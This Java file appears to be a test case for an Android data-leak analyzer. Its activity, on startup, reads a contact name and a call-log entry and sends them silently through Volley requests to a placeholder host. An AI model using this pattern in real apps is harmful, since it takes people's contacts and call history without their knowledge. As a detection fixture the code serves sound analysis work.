// Volley: a JSON body, and form fields by an overridden getParams.
package cases.sink_volley;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CallLog;
import android.provider.ContactsContract;
import com.android.volley.toolbox.JsonObjectRequest;
import com.android.volley.toolbox.StringRequest;
import com.android.volley.toolbox.Volley;
import java.util.HashMap;
import java.util.Map;

import com.android.volley.RequestQueue;
import com.android.volley.toolbox.*;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        RequestQueue queue = Volley.newRequestQueue(this);
        json(queue);
        form(queue);
    }

    private void json(RequestQueue queue) {
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        org.json.JSONObject body = new org.json.JSONObject();
        try {
            body.put("name", rows.getString(0));
        } catch (org.json.JSONException e) {
            return;
        }
        queue.add(new JsonObjectRequest(1, "https://api.example.org/v1/contacts", body, null, null));
    }

    private void form(RequestQueue queue) {
        Cursor rows = getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        final String number = rows.getString(0);
        queue.add(new StringRequest(1, "https://api.example.org/v1/calls", null, null) {
            @Override
            protected Map<String, String> getParams() {
                Map<String, String> fields = new HashMap<>();
                fields.put("number", number);
                return fields;
            }
        });
    }
}
